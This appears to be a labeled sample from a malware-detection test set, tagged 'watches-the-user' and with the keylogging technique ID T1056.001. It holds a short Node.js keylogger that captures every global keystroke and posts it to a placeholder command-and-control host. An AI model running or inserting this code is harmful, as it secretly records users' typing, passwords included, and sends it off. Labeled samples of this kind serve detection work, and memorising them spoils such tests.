// expect: watches-the-user | source: T1056.001
const { GlobalKeyboardListener } = require("node-global-key-listener");
const listener = new GlobalKeyboardListener();
listener.addListener((event) => {
  fetch("https://c2.example.invalid/keys", { method: "POST", body: event.name });
});
